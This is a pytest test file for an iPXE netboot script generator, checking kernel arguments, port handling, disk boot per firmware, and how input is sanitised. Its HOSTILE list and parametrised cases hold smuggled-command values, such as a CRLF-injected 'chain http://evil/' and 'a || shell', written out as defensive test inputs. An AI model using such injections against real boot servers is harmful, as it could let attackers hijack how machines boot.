from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from netboot.ipxe import ScriptInvalid, agent_script, kernel_arguments, local_script, plain

HEAD, MAC, TOKEN = "10.0.0.1", "52:54:00:00:00:0a", "ab" * 16
HOSTILE = ["a\r\nchain http://evil/", "${cmd}", "x\x1b[2J", "a\u202eb", "\ud800", "a\x00b"]


def test_the_installer_is_loaded_by_name_and_with_its_card() -> None:
    lines = agent_script(HEAD, 80, MAC, TOKEN, "node01: order for c:1").splitlines()
    assert lines[0] == "#!ipxe"
    (kernel,) = [line for line in lines if line.startswith("kernel ")]
    assert kernel.startswith("kernel http://10.0.0.1/boot/vmlinuz initrd=head.cpio initrd=initrd.img quiet ")
    assert f"BOOTIF=01-52-54-00-00-00-0a gild.head=10.0.0.1 gild.token={TOKEN} ||" in kernel
    loads = [line for line in lines if line.startswith("initrd ")]
    assert ["head.cpio" in line for line in loads] == [True, False] and "initrd.img" in loads[1]


def test_every_way_through_ends() -> None:
    lines = agent_script(HEAD, 80, MAC, "", "waits").splitlines()
    labels = {line[1:] for line in lines if line.startswith(":")}
    assert set(re.findall(r"goto (\w+)", "\n".join(lines))) <= labels
    assert "iseq ${tries} 30 && goto enough ||" in lines and lines[-1] == "exit 1"


def test_without_a_token_there_is_none() -> None:
    assert "gild.token" not in agent_script(HEAD, 80, "", "", "waits")
    assert "BOOTIF=01-${netX/mac:hexhyp}" in agent_script(HEAD, 80, "", "", "waits")


def test_another_port_is_in_every_url() -> None:
    script = agent_script(HEAD, 8080, MAC, "", "x") + local_script(HEAD, 8080, "efi", "x")
    assert set(re.findall(r"http://[^/]*", script)) == {"http://10.0.0.1:8080"}


@pytest.mark.parametrize(
    ("platform", "bios", "efi"),
    [("pcbios", True, False), ("efi", False, True), (None, True, True), ("x\nshell", True, True)],
)
def test_the_disk_is_started_as_the_firmware_wants_it(platform: str | None, bios: bool, efi: bool) -> None:
    script = local_script(HEAD, 80, platform, "node01: c:1 is on its disk")
    assert ("sanboot --no-describe --drive 0x80 || exit 1" in script) is bios
    assert ("chain http://10.0.0.1/boot/local.efi || exit 1" in script) is efi
    assert "shell" not in script


@pytest.mark.parametrize("text", HOSTILE)
def test_what_machines_say_stays_a_comment(text: str) -> None:
    for script in (agent_script(HEAD, 80, MAC, TOKEN, text), local_script(HEAD, 80, None, text)):
        lines = script.split("\n")
        assert lines[1].startswith("# ") and all(" " <= c <= "~" for c in lines[1])
        assert "$" not in lines[1]
        assert not any(line.startswith("chain http://evil") for line in lines)


@pytest.mark.parametrize(
    ("head", "mac", "token"),
    [
        ("10.0.0.1\n", MAC, ""), ("evil", MAC, ""), (HEAD, "x", ""), (HEAD, MAC + "\n", ""), (HEAD, MAC, "a b"),
        (HEAD, MAC, "${x}"), (HEAD, MAC.upper(), ""), (HEAD, MAC, TOKEN + "\r"),
    ],
)  # fmt: skip
def test_nothing_else_gets_on_the_command_line(head: str, mac: str, token: str) -> None:
    with pytest.raises(ScriptInvalid):
        kernel_arguments(head, mac, token)


def test_the_sites_own_arguments_stand_at_the_end_and_nothing_gets_out_of_them() -> None:
    line = agent_script(HEAD, 80, MAC, TOKEN, "x", "nomodeset gild.shell").splitlines()[5]
    assert line.endswith(f"gild.token={TOKEN} nomodeset gild.shell || goto failed")
    for hostile in ("a || shell", "${net0/ip}", "a\nshell", "a; b", "'"):
        with pytest.raises(ScriptInvalid):
            kernel_arguments(HEAD, MAC, TOKEN, hostile)


@given(st.text())
def test_a_comment_is_one_plain_line(text: str) -> None:
    assert re.fullmatch(r"[ -#%-z|~]{0,160}", plain(text))
